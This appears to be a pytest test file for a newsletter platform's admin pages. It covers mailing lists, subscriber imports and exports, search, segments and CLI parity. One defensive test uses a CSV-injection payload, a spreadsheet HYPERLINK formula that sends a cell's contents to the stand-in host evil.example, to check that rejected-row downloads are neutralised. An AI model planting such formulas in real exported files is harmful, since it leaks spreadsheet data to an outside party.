"""Admin pages for lists, imports, subscribers and segments: who may do what, and that they work."""

from __future__ import annotations

import csv
import html
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from typer.testing import CliRunner

from core.audit import AuditEntry
from core.database import unit_of_work
from core.tasks import TaskName
from publisher.audience.segments import Segment
from publisher.cli.main import app as cli
from subscribers.imports import ImportJob, upload_dir
from subscribers.models import MailingList, Subscriber
from tests.fixtures.factories import add_list, add_subscribers, log_in
from tests.fixtures.paths import DATA
from tests.fixtures.tasks import TaskRecorder, recording
from worker.imports import import_subscribers

DATA = DATA / "imports"


@pytest.fixture
def db(pg_db: str) -> str:
    """These pages run on PostgreSQL only: the shared client takes its database from here."""
    return pg_db


@pytest.fixture
def tasks() -> Iterator[list[tuple[TaskName, list[Any]]]]:
    with recording(TaskRecorder()) as recorder:
        yield recorder.tasks


def news_list() -> int:
    with unit_of_work() as session:
        mailing_list = add_list(session, "news")
        add_subscribers(session, mailing_list, 3)
        return mailing_list.id


def test_lists_page_shows_counts_and_admin_creates_a_list(client: TestClient) -> None:
    news_list()
    token = log_in(client)
    page = client.get("/admin/lists")
    assert page.status_code == 200 and 'data-count="confirmed">3<' in page.text
    answer = client.post(
        "/admin/lists",
        data={
            "name": "Дайджест",
            "slug": "digest",
            "opt_in": "double",
            "public": "true",
            "csrf_token": token,
        },
        follow_redirects=False,
    )
    assert answer.status_code == 303
    with unit_of_work() as session:
        made = session.scalars(select(MailingList).where(MailingList.slug == "digest")).one()
        assert (made.name, made.opt_in, made.public) == ("Дайджест", "double", True)
    again = client.post("/admin/lists", data={"name": "X", "slug": "digest", "csrf_token": token})
    assert again.status_code == 400 and "exists already" in again.text


def test_editors_may_look_but_not_change(client: TestClient) -> None:
    list_id = news_list()
    token = log_in(client, "editor@example.com", role="editor")
    assert client.get("/admin/lists").status_code == 200
    assert client.get(f"/admin/lists/{list_id}").status_code == 200
    assert "Add a list" not in client.get("/admin/lists").text
    refused = client.post("/admin/lists", data={"name": "X", "slug": "x", "csrf_token": token})
    assert refused.status_code == 403
    upload = client.post(
        f"/admin/lists/{list_id}/imports",
        data={"csrf_token": token},
        files={"file": ("good.csv", (DATA / "good.csv").read_bytes(), "text/csv")},
    )
    assert upload.status_code == 403
    assert client.get(f"/admin/lists/{list_id}/export.csv").status_code == 403


def test_anonymous_is_sent_to_log_in(client: TestClient) -> None:
    answer = client.get("/admin/lists", follow_redirects=False)
    assert answer.status_code in (302, 303, 307) and "/admin/login" in answer.headers["location"]


def test_upload_queues_a_worker_import_and_the_page_shows_progress(
    client: TestClient, tasks: list[tuple[str, list[Any]]]
) -> None:
    list_id = news_list()
    token = log_in(client)
    answer = client.post(
        f"/admin/lists/{list_id}/imports",
        data={"csrf_token": token},
        files={"file": ("invalid.csv", (DATA / "invalid.csv").read_bytes(), "text/csv")},
        follow_redirects=False,
    )
    assert answer.status_code == 303
    job_id = int(answer.headers["location"].rsplit("/", 1)[1])
    assert tasks == [("herald.campaigns.import_subscribers", [job_id])]
    waiting = client.get(f"/admin/imports/{job_id}")
    assert 'http-equiv="refresh"' in waiting.text and ">queued<" in waiting.text
    import_subscribers(job_id)  # what the worker runs
    done = client.get(f"/admin/imports/{job_id}")
    assert 'http-equiv="refresh"' not in done.text
    assert 'data-count="added">1<' in done.text and 'data-count="rejected">4<' in done.text
    report = client.get(f"/admin/imports/{job_id}/rejected.csv")
    rows = list(csv.reader(io.StringIO(report.text)))
    assert rows[0] == ["line", "email", "reason"] and [r[0] for r in rows[1:]] == [
        "2",
        "4",
        "5",
        "6",
    ]
    assert client.get(f"/api/imports/{job_id}").json()["status"] == "done"
    with unit_of_work() as session:
        job = session.get_one(ImportJob, job_id)
        assert not Path(job.path).exists() and Path(job.path).parent == upload_dir()
        audited = select(AuditEntry.action).where(AuditEntry.object_type == "list")
        assert session.scalars(audited).all() == ["subscribers.import"]


def test_export_download_is_csv_with_every_member(client: TestClient) -> None:
    list_id = news_list()
    log_in(client)
    answer = client.get(f"/admin/lists/{list_id}/export.csv")
    assert answer.headers["content-type"].startswith("text/csv")
    assert 'filename="news-subscribers.csv"' in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[0][0] == "email" and sorted(r[0] for r in rows[1:]) == [
        "reader0@example.com",
        "reader1@example.com",
        "reader2@example.com",
    ]


def test_subscriber_search_shows_status_and_lists(client: TestClient) -> None:
    news_list()
    log_in(client, "editor@example.com", role="editor")
    page = client.get("/admin/subscribers", params={"q": "reader1"})
    assert "reader1@example.com" in page.text and "reader0@example.com" not in page.text
    assert "News" in page.text and ">confirmed<" in page.text
    assert "Nobody" in client.get("/admin/subscribers", params={"q": "zzz"}).text


def test_segments_page_validates_rules_and_shows_the_live_count(client: TestClient) -> None:
    list_id = news_list()
    token = log_in(client)
    bad = client.post(
        "/admin/segments",
        data={
            "name": "Kyiv",
            "list_ids": [str(list_id)],
            "csrf_token": token,
            "rules": '{"rules": [{"field": "colour", "op": "eq", "value": "x"}]}',
        },
    )
    assert bad.status_code == 400 and "unknown field &#39;colour&#39;" in bad.text
    good = client.post(
        "/admin/segments",
        data={
            "name": "Ukrainian readers",
            "list_ids": [str(list_id)],
            "csrf_token": token,
            "rules": '{"rules": [{"field": "language", "op": "in", "value": ["uk"]}]}',
        },
        follow_redirects=False,
    )
    assert good.status_code == 303
    page = client.get(good.headers["location"])
    assert 'data-count="members">1<' in page.text  # add_subscribers rotates en/uk/ja
    with unit_of_work() as session:
        session.add(Subscriber(email="unrelated@example.com", language="uk"))
    assert 'data-count="members">1<' in client.get("/admin/segments").text


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def test_the_rejected_rows_download_never_holds_a_live_formula(
    client: TestClient, tasks: list[tuple[str, list[Any]]]
) -> None:
    list_id = news_list()
    token = log_in(client)
    upload = f'email,name\n"{FORMULA.replace(chr(34), chr(34) * 2)}",Eve\n+1-555@x,Tab\n'
    answer = client.post(
        f"/admin/lists/{list_id}/imports",
        data={"csrf_token": token},
        files={"file": ("evil.csv", upload.encode(), "text/csv")},
        follow_redirects=False,
    )
    job_id = int(answer.headers["location"].rsplit("/", 1)[1])
    import_subscribers(job_id)
    report = client.get(f"/admin/imports/{job_id}/rejected.csv")
    rows = list(csv.reader(io.StringIO(report.text)))
    assert [row[1] for row in rows[1:]] == ["'" + FORMULA, "'+1-555@x"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(
    ("form", "cli_args", "message"),
    [
        ({"slug": "news", "name": "Again"}, ["news", "--name", "Again"], "a list 'news' exists"),
        (
            {"slug": "fr", "name": "French", "language": "fr"},
            ["fr", "--name", "French", "--language", "fr"],
            "language is one of en, uk, ja",
        ),
        (
            {"slug": "long", "name": "x" * 201},
            ["long", "--name", "x" * 201],
            "a list's name is at most 200 characters",
        ),
    ],
)
def test_the_page_and_the_cli_refuse_the_same_list_with_the_same_message(
    client: TestClient, form: dict[str, str], cli_args: list[str], message: str
) -> None:
    news_list()
    token = log_in(client)
    page = client.post("/admin/lists", data={**form, "csrf_token": token})
    assert page.status_code == 400 and message in html.unescape(page.text)
    result = CliRunner().invoke(cli, ["lists", "create", *cli_args])
    assert result.exit_code == 1 and f"error: {message}" in result.output
    with unit_of_work() as session:
        assert session.scalars(select(MailingList.slug)).all() == ["news"]


def test_a_list_made_on_the_page_has_clean_topics_like_one_made_by_the_cli(
    client: TestClient,
) -> None:
    token = log_in(client)
    answer = client.post(
        "/admin/lists",
        data={"slug": " Forum ", "name": " Find out first ", "language": "uk", "csrf_token": token},
        follow_redirects=False,
    )
    assert answer.status_code == 303
    with unit_of_work() as session:
        made = session.scalars(select(MailingList).where(MailingList.slug == "forum")).one()
        assert (made.name, made.language, made.topics) == ("Find out first", "uk", [])
        audited = select(AuditEntry.action).where(AuditEntry.object_type == "list")
        assert session.scalars(audited).all() == ["lists.create"]


def test_the_list_page_counts_what_the_cli_counts(client: TestClient) -> None:
    list_id = news_list()
    with unit_of_work() as session:
        mailing_list = session.get_one(MailingList, list_id)
        add_subscribers(session, mailing_list, 2, status="unsubscribed", prefix="gone")
    log_in(client)
    page = client.get(f"/admin/lists/{list_id}").text
    code, shown = _cli_json("lists", "show", "news", "--json")
    assert code == 0
    for state in ("confirmed", "unconfirmed", "unsubscribed"):
        assert f'data-count="{state}">{shown["counts"][state]}<' in page


def test_a_segment_of_a_list_that_does_not_exist_is_not_saved(client: TestClient) -> None:
    token = log_in(client)
    answer = client.post(
        "/admin/segments",
        data={"name": "Nobody", "list_ids": ["999"], "rules": "{}", "csrf_token": token},
    )
    assert answer.status_code == 400 and "no list #999" in answer.text
    with unit_of_work() as session:
        assert session.scalars(select(Segment)).all() == []


def _cli_json(*args: str) -> tuple[int, Any]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, json.loads(result.output) if result.exit_code == 0 else None
